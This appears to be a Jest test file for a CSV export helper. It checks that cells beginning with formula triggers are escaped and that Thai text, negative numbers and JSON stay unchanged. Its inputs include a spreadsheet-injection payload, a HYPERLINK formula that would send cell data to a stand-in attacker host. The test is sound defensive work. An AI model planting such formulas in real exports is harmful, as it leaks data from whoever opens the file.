import { parse } from 'csv-parse/sync';
import { toCsv } from './csv';

const rows = (reason: string) => [{ reason, amount: -1500, data: { a: 1 } }];
const csv = (reason: string) => toCsv(['reason', 'amount', 'data'] as const, rows(reason), (r, c) => r[c]);

describe('every CSV the API writes', () => {
  it.each(['=HYPERLINK("http://evil.example/?"&A1,"x")', '+1+1', '-2+3', '@SUM(A1:A2)', '\tcmd', '\r=1', '＝1'])(
    'escapes a cell that a spreadsheet would run as a formula: %j',
    (reason) => {
      const [, record] = parse(csv(reason).replace(/^\uFEFF/, ''), { relax_column_count: true });
      expect(record[0]).toBe(`'${reason}`);
    },
  );

  it('leaves ordinary Thai text, negative amounts and JSON alone', () => {
    const text = csv('งบประมาณถูกปรับลด, ตามมติที่ประชุม "ครั้งที่ 2/2562"');
    expect(text.startsWith('\uFEFF')).toBe(true);
    expect(text).toContain('\r\n');
    const [, record] = parse(text.replace(/^\uFEFF/, ''));
    expect(record).toEqual(['งบประมาณถูกปรับลด, ตามมติที่ประชุม "ครั้งที่ 2/2562"', '-1500', '{"a":1}']);
  });
});
